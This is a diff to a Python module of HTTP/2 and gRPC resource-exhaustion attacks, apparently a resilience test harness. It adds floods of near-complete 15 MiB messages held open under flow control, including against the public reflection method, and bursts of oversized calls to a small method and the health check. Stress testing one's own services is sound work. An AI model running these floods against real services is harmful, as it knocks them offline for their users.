@@ -196,6 +196,61 @@ async def malformed_streams(attack: Attack) -> int:
     return await _flood(attack, 4, chunks)
 
 
+async def partial_messages(attack: Attack) -> int:
+    """A hundred streams, of which each sends 15 MiB but for the last byte, as fast as it is let. The bytes sent."""
+    return await _partial_messages(attack, _APPEND)
+
+
+async def partial_messages_for_reflection(attack: Attack) -> int:
+    """The same, to the method that everybody may call."""
+    return await _partial_messages(attack, "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")
+
+
+async def _partial_messages(attack: Attack, method: str) -> int:
+    size = 15 * _MIB
+    end = time.monotonic() + attack.seconds
+
+    async def one() -> int:
+        host, _, port = attack.address.rpartition(":")
+        reader, writer = await asyncio.open_connection(host, int(port))
+        left = dict.fromkeys(range(1, 51, 2), size - 1)
+        block = http2.request_headers(method, attack.token)
+        start = http2.message(bytes(size))[:5]
+        writer.write(http2.PREFACE + http2.settings(HEADER_TABLE_SIZE=0))
+        for stream in left:
+            writer.write(http2.frame(Kind.HEADERS, stream, block, Flag.END_HEADERS))
+            writer.write(http2.frame(Kind.DATA, stream, start))
+        try:
+            return await _send(end, reader, writer, left)
+        finally:
+            writer.transport.abort()
+
+    return sum(await asyncio.gather(*(one() for _ in range(4))))
+
+
+async def _send(end: float, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, left: dict[int, int]) -> int:
+    """Sends zeros on each stream until none is ``left``, as the windows permit, and then waits. The bytes sent."""
+    flow, frames, sent, zeros = http2.FlowControl(), http2.Frames(), 0, bytes(http2.MAX_FRAME)
+    for stream in left:
+        flow.take(stream, 5)
+    with suppress(OSError, TimeoutError):
+        async with asyncio.timeout_at(asyncio.get_running_loop().time() + end - time.monotonic()):
+            while data := await reader.read(256 * 1024):
+                for kind, flags, stream, payload in frames.feed(data):
+                    flow.update(kind, flags, stream, payload)
+                    if kind in {Kind.SETTINGS, Kind.PING} and not flags & Flag.ACK:
+                        writer.write(http2.frame(Kind(kind), 0, payload if kind == Kind.PING else b"", Flag.ACK))
+                    if kind == Kind.RST_STREAM or (kind == Kind.HEADERS and flags & Flag.END_STREAM):
+                        left.pop(stream, None)
+                for stream in tuple(left):
+                    while room := flow.take(stream, left[stream]):
+                        writer.write(http2.frame(Kind.DATA, stream, zeros[:room]))
+                        left[stream] -= room
+                        sent += room
+                await writer.drain()
+    return sent
+
+
 # -- requests that a library sends
 
 
@@ -270,6 +325,16 @@ async def many_bodies(attack: Attack) -> int:
     return 100
 
 
+async def many_bodies_for_small(attack: Attack) -> int:
+    """A hundred calls of 15 MiB at once, to a method that takes 64 KiB, again and again."""
+    return await _again(attack, 1, 100, _LIST, _large(15))
+
+
+async def many_bodies_for_health(attack: Attack) -> int:
+    """The same, to the method that everybody may call."""
+    return await _again(attack, 1, 100, "/grpc.health.v1.Health/Check", _large(15))
+
+
 async def many_bodies_of_four(attack: Attack) -> int:
     """Four clients, each with sixteen calls of 15 MiB at once."""
     return await _again(attack, 4, 16, _CREATE, _large(15))
@@ -320,11 +385,15 @@ ATTACKS: dict[str, Work] = {
         slow_drip,
         zero_window,
         malformed_streams,
+        partial_messages,
+        partial_messages_for_reflection,
         empty_ids,
         empty_permissions,
         nested_json,
         large_bodies,
         many_bodies,
+        many_bodies_for_small,
+        many_bodies_for_health,
         many_bodies_of_four,
         idle_streams,
         health_watches,
